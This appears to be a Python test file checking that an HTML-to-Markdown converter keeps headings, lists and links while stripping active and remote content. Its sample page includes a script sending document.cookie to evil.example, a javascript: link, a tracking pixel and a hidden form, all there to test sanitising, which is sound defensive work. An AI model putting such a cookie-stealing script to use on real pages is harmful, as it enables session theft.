"""HTML → Markdown: structure kept, anything active or remote left out."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from intake.convert import convert_document
from intake.convert.htmldoc import html_to_markdown
from intake.core.models import FileType
from intake.mail.parse import parse_message
from tests.conftest import CliResult

PAGE = """<html><head><title>t</title><style>p {color: red}</style>
<script>document.location = "https://evil.example/?" + document.cookie</script></head><body>
<h1>Night shifts</h1><p>Sleep is <b>not</b> optional, says <em>everyone</em>.<b> </b></p>
<ul><li>Rest</li><li>Eat<ol><li>Fruit</li></ol></li></ul>
<p>See <a href="https://example.org/a b">the guide</a> or <a href="javascript:alert(1)">this</a>
or <a href="mailto:ed@example.org">write</a>.</p>
<img src="https://tracker.example/pixel.gif" alt="a chart"><p>5 * 3 = [15]</p>
<form action="https://evil.example"><input name="q" value="hidden words"></form>
<iframe src="https://evil.example/frame">inside frame</iframe><p>Line one<br>line two</p>
</body></html>"""


def test_structure_is_kept_and_nothing_active_comes_through() -> None:
    markdown, remote = html_to_markdown(PAGE)
    assert markdown == (
        "# Night shifts\n\n"
        "Sleep is **not** optional, says *everyone*.\n\n"
        "- Rest\n- Eat\n    1. Fruit\n\n"
        "See [the guide](https://example.org/a%20b) or this or [write](mailto:ed@example.org)."
        "\n\n[image: a chart]\n\n5 \\* 3 = \\[15\\]\n\nLine one\\\nline two")
    assert remote == 1
    for gone in ("script", "cookie", "evil", "color", "hidden words", "inside frame"):
        assert gone not in markdown


def test_html_attachment_names_remote_images_in_a_warning() -> None:
    result = convert_document("page.html", PAGE.encode(), FileType.HTML)
    assert result.markdown.startswith("# Night shifts")
    assert result.warnings == ("page.html refers to 1 image(s) on the web, which were not "
                               "fetched; ask the author for the image files.",)


def test_html_only_body_becomes_readable_text() -> None:
    raw = (b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
           b"Content-Type: text/html; charset=utf-8\r\n\r\n" + PAGE.encode())
    assert parse_message(raw).text.startswith("# Night shifts\n\nSleep is **not** optional")


def test_an_article_written_in_the_mails_html_becomes_a_draft_like_an_html_file(
        tmp_path: Path, make_config: Callable[..., Path],
        cli: Callable[..., CliResult]) -> None:
    """No text part, only HTML: its headings, lists and links are the draft's, not
    escaped text (\\# Heading, [link](…)), and its first heading is the title."""
    from email.message import EmailMessage

    from intake.ledger.store import read_draft

    msg = EmailMessage()
    msg["From"] = "Zoë Okafor <zoe@uni.example.org>"
    msg["To"] = "submissions@journal.example.org"
    msg["Subject"] = "Guest post"
    msg["Message-ID"] = "<htmlonly@uni>"
    msg.set_content("<h1>Jaundice in neonates</h1><p>Most newborn jaundice is "
                    "<b>harmless</b>; see <a href=\"https://example.org/nice\">the "
                    "guidance</a>.</p><ul><li>Check the colour</li><li>Feed often</li></ul>"
                    + "<p>More words on the ward. </p>" * 80, subtype="html")
    config = make_config()
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.eml").write_bytes(msg.as_bytes())
    assert cli("--config", config, "ingest", folder).code == 0
    front, body = read_draft(config.parent / "var" / "drafts" / "JPMS-2026-0001" / "draft.md")
    assert front["title"] == "Jaundice in neonates"
    assert "**harmless**" in body and "[the guidance](https://example.org/nice)" in body
    assert "- Check the colour" in body and "\\#" not in body and "\\[" not in body
    (ack,) = (config.parent / "sent").glob("*.eml")
    assert "Jaundice in neonates" in ack.read_text(encoding="utf-8", errors="replace")
